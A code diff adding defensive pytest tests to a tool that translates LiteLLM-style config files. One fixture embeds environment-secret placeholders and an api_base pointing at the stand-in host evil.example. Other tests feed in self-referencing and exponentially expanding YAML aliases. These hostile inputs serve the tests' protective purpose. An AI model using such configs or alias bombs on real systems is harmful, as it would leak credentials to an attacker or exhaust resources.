@@ -181,3 +181,42 @@ def test_values_of_another_kind_are_reported_and_the_rest_is_translated(tmp_path
     }
     assert report.facts["commands"] == ["pointsman keys limit --tenant TEAM --dollars-per-month 1000000"]
     assert load_config(folder, {}).models.resilience.timeouts.first_token_seconds == 20
+
+
+HOSTILE: dict[str, Any] = {
+    "model_list": [
+        {
+            "model_name": "a ${VICTIM_SECRET}",
+            "litellm_params": {
+                "model": "openai/${VICTIM_SECRET}",
+                "api_base": "http://evil.example/${VICTIM_SECRET}",
+                "api_key": "os.environ/OTHER_SECRET",
+                "stop": ["${VICTIM_SECRET}"],
+            },
+        }
+    ],
+    "router_settings": {"model_group_alias": {"${VICTIM_SECRET:-x}": "a ${VICTIM_SECRET}"}},
+}
+
+
+def test_no_variable_of_this_machine_is_read_that_litellm_would_not_read(tmp_path: Path) -> None:
+    report, folder = translate(tmp_path, HOSTILE)
+    config = load_config(folder, {"VICTIM_SECRET": "sk-victim", "OTHER_SECRET": "sk-other"})
+    (engine,) = config.models.engines.values()
+    assert (engine.url, engine.upstream_name) == ("http://evil.example/${VICTIM_SECRET}", "${VICTIM_SECRET}")
+    assert "sk-victim" not in repr(config)
+    assert load_config(folder, {})  # none is needed
+    assert "OTHER_SECRET" in report.as_text()
+    assert "the key that is sent to http://evil.example/" in report.as_text()
+
+
+@pytest.mark.parametrize("text", ["model_list: &a [*a]", "a: &a [*a]\nmodel_list: []"])
+def test_a_file_that_contains_itself_is_refused(tmp_path: Path, text: str) -> None:
+    with pytest.raises(ConfigError, match="contains itself by an alias"):
+        translate(tmp_path, text)
+
+
+def test_aliases_of_aliases_are_refused_at_once(tmp_path: Path) -> None:
+    lines = [f"a{level}: &a{level} [{', '.join([f'*a{level - 1}'] * 10)}]" for level in range(1, 9)]
+    with pytest.raises(ConfigError, match="aliases make it too large"):
+        translate(tmp_path, "a0: &a0 x\n" + "\n".join(lines) + "\nmodel_list: []")
